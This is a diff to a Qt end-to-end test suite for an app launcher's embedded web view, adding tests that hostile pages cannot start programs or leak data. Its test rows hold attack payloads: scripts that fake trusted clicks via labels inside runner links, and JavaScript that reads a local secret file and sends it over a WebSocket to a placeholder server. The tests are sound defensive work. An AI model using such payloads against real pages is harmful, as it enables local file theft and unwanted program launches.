@@ -2,6 +2,10 @@
 // started (argrecorder writes down what it got), and pages that try to start things unasked.
 #include "e2e/RunnerHarness.h"
 
+#include <QImage>
+#include <QTcpServer>
+#include <QWebEngineSettings>
+
 using namespace RunnerHarness;
 
 namespace {
@@ -80,19 +84,50 @@ private slots:
 
     // Nothing but a user's click or key press starts anything: not a frame, not a script,
     // not a refresh, a form or a pop-up; none of them gets a message, nor piles up windows.
+    // Page scripts do not run at all; rows marked "scripts on" run them all the same, to
+    // show that the link watcher alone still refuses what they do.
     void pagesStartNothingByThemselves_data() {
         // Header of the launcher page, and inner.htm, shown in a frame when Header has one;
         // "RUN" is a runner link, and a cell that is no markup is a script.
-        Texts({"Header", "Inner"});
+        Columns<QString, QString, bool>({"Header", "Inner", "Scripts"});
         const QString frame = "<iframe src=\"inner.htm\"></iframe>";
+        // A script's click on a label reaches the control the label names, inside a runner
+        // link, as a trusted click on the link.
+        const auto label = [](const QString& Control, const QString& How) {
+            return "<a href=\"RUN\">" + Control + "</a><label for=c id=l>x</label><script>" +
+                   How.arg("document.getElementById('l')") + "</script>";
+        };
+        const QString checkbox = "<input type=checkbox id=c>";
+        const QString later = "setTimeout(() => %1.click(), 100)";
+        for (bool scripts : {false, true}) {
+            const auto row = [scripts](const QString& Name, const QString& Header,
+                                       const QString& Inner = {}) {
+                const QString tag = Name + (scripts ? " (scripts on)" : "");
+                QTest::newRow(qPrintable(tag)) << Header << Inner << scripts;
+            };
+            row("label clicks a checkbox in a link", label(checkbox, later));
+            row("label clicks a radio button in a link", label("<input type=radio id=c>", later));
+            row("label clicks a button in a link", label("<button id=c>b</button>", later));
+            row("label gets a click event",
+                label(checkbox, "setTimeout(() => %1.dispatchEvent(new "
+                                "MouseEvent('click', {bubbles: true})), 100)"));
+            row("label clicked from a timer", label(checkbox, "setInterval(() => %1.click(), 50)"));
+            row("label in a frame", frame, label(checkbox, later));
+            row("label on a page a script made current",
+                "<script>location.href='inner.htm'</script>", label(checkbox, later));
+            row("script clicks an item",
+                "<script>addEventListener('load', () => "
+                "document.querySelector('a[title=Rec]').click())</script>");
+        }
+        const auto Row = [](const char* Name, const QString& Header, const QString& Inner) {
+            DataRows::Row(Name, Header, Inner, false);
+        };
         Row("frame opens a window", frame, "window.open('RUN')");
         Row("frame moves the page", frame, "top.location.href='RUN'");
         Row("frame sends a form to the page", frame,
             "<form target=_top action='RUN'></form><script>document.forms[0].submit()</script>");
         Row("refresh", "<meta http-equiv=refresh content=\"0;url=RUN\">", "");
         Row("script on load", "location.href='RUN'", "");
-        Row("script clicks an item",
-            "addEventListener('load', () => document.querySelector('a[title=Rec]').click())", "");
         Row("pop-up sent on later", "var w = open(''); setTimeout(() => w.location = 'RUN', 50)",
             "");
         Row("pop-up left blank", "open('')", "");
@@ -110,6 +145,8 @@ private slots:
         Write("inner.htm", html("Inner"));
         const QString page =
             Build("Hostile.htm", {{"Rec", Recorder, "clicked"}}, "Closable=False", html("Header"));
+        View()->page()->settings()->setAttribute(QWebEngineSettings::JavascriptEnabled,
+                                                 Fetch<bool>("Scripts"));
         QVERIFY(Opens(page));
         QTest::qWait(1500);
         // Never left blank: a page the engine refused comes back, or gives way to the welcome page.
@@ -123,6 +160,113 @@ private slots:
         QVERIFY(pages() <= 2);
         if (QLatin1String(QTest::currentDataTag()) != "windows without end")
             QTRY_COMPARE(pages(), 1);
+    }
+
+    // A page reads no local file and reaches no server, with or without anybody's click: a
+    // listener on this machine hears nothing, nothing goes to the desktop, and the page's
+    // title, where a script would show what it read, stays its own.
+    void pagesReadAndSendNothing_data() {
+        // Header of the page; "SERVER" is the listener's address, "SECRET" a file of the
+        // test's; Click: an element the user then really clicks.
+        Texts({"Header", "Click"});
+        const QString show = "<script>%1</script>";
+        Row("XMLHttpRequest of a file",
+            show.arg("var r = new XMLHttpRequest(); r.open('GET', 'SECRET', false); r.send();"
+                     " document.title = r.responseText"),
+            "");
+        Row("fetch of a file",
+            show.arg("fetch('SECRET').then(r => r.text()).then(t => document.title = t)"), "");
+        Row("fetch of a folder",
+            show.arg("fetch('DIR/').then(r => r.text()).then(t => document.title = t)"), "");
+        Row("frame's document read",
+            "<iframe src=\"SECRET\" onload=\"document.title = "
+            "this.contentDocument.body.textContent\"></iframe>",
+            "");
+        Row("file sent over a socket",
+            show.arg("fetch('SECRET').then(r => r.text()).then(t => new "
+                     "WebSocket('ws://SERVER/?' + t))"),
+            "");
+        Row("picture", "<img src=\"http://SERVER/i.png\">", "");
+        Row("picture set", "<img srcset=\"http://SERVER/i.png 1x\">", "");
+        Row("style sheet", "<link rel=stylesheet href=\"http://SERVER/s.css\">", "");
+        Row("style sheet import", "<style>@import url(http://SERVER/i.css);</style>", "");
+        Row("background", "<div style=\"background: url(http://SERVER/b.png)\">b</div>", "");
+        Row("prefetch and preconnect",
+            "<link rel=prefetch href=\"http://SERVER/p\"><link rel=preconnect "
+            "href=\"http://SERVER\"><link rel=dns-prefetch href=\"http://SERVER\">",
+            "");
+        Row("sound and film",
+            "<audio autoplay src=\"http://SERVER/a.ogg\"></audio><video "
+            "poster=\"http://SERVER/v.png\"></video>",
+            "");
+        Row("object and embed",
+            "<object data=\"http://SERVER/o\"></object><embed src=\"http://SERVER/e\">", "");
+        Row("frame", "<iframe src=\"http://SERVER/f\"></iframe>", "");
+        Row("refresh", "<meta http-equiv=refresh content=\"0;url=http://SERVER/r\">", "");
+        Row("form sent by a click",
+            "<form action=\"http://SERVER/f\"><button id=send>Send</button></form>",
+            "document.getElementById('send')");
+    }
+    void pagesReadAndSendNothing() {
+        QTcpServer listener;
+        QVERIFY(listener.listen(QHostAddress::LocalHost));
+        int heard = 0;
+        connect(&listener, &QTcpServer::newConnection, [&] { ++heard; });
+        const QString secret = Dir.filePath("secret.txt");
+        QVERIFY(TestFiles::Write(secret, "MARKER"));
+        const QString header =
+            Real(Fetch("Header"))
+                .replace("SERVER", "127.0.0.1:" + QString::number(listener.serverPort()))
+                .replace("SECRET", QUrl::fromLocalFile(secret).toString());
+        // The page's own local picture still shows.
+        const QString picture = Dir.filePath("own.png");
+        QImage(16, 16, QImage::Format_RGB32).save(picture);
+        Item item{"Rec", Recorder};
+        item.Icon = picture;
+        QVERIFY(Opens(Build("Reader.htm", {item}, {}, header)));
+        if (!Fetch("Click").isEmpty())
+            ClickOn(Fetch("Click"));
+        QTest::qWait(1500);
+        QCOMPARE(heard, 0);
+        QCOMPARE(R->Port.Calls, QStringList());
+        QCOMPARE(R->Dialogs.Messages.size(), 0);
+        QCOMPARE(View()->title(), QStringLiteral("Reader"));
+        QCOMPARE(View()->url(), QUrl::fromLocalFile(Dir.filePath("Reader.htm")));
+        QCOMPARE(Eval(ItemLink("Rec") + ".querySelector('img').naturalWidth").toInt(), 16);
+    }
+
+    // The left button clicks and the middle one opens: both start the item; the right one
+    // only asks for a menu. A press that began beside the link and ends on it is no click on it.
+    void onlyAPressOnTheLinkStartsIt_data() {
+        Columns<Qt::MouseButton, bool, bool>({"Button", "PressedOnLink", "Starts"});
+        Row("left", Qt::LeftButton, true, true);
+        Row("middle", Qt::MiddleButton, true, true);
+        Row("right", Qt::RightButton, true, false);
+        Row("left, pressed beside the link", Qt::LeftButton, false, false);
+    }
+    void onlyAPressOnTheLinkStartsIt() {
+        QVERIFY(Opens(Build("Buttons.htm", {{"Rec", Recorder, "pressed"}})));
+        const auto at = [this](const QString& Element) {
+            const QVariantList centre = Eval(CentreOf(Element)).toList();
+            return QPoint(centre.value(0).toInt(), centre.value(1).toInt());
+        };
+        const QPoint link = at(ItemLink("Rec"));
+        const QPoint press =
+            Fetch<bool>("PressedOnLink") ? link : at("document.querySelector('h1')");
+        const auto button = Fetch<Qt::MouseButton>("Button");
+        QWidget* surface = View()->focusProxy();
+        QTest::mousePress(surface, button, {}, press);
+        QTest::mouseMove(surface, link);
+        QTest::mouseRelease(surface, button, {}, link);
+        if (Fetch<bool>("Starts")) {
+            QTRY_VERIFY_WITH_TIMEOUT(QFileInfo::exists(ArgsFile), 10000);
+            QCOMPARE(Recorded().mid(1), QStringList{"pressed"});
+        } else {
+            QTest::qWait(1000);
+            QVERIFY(!QFileInfo::exists(ArgsFile));
+        }
+        QCOMPARE(R->Port.Calls.size(), int(Fetch<bool>("Starts")));
+        QCOMPARE(R->Dialogs.Messages.size(), 0);
     }
 
     // Local pages are shown; every other file or address goes to its own application (a
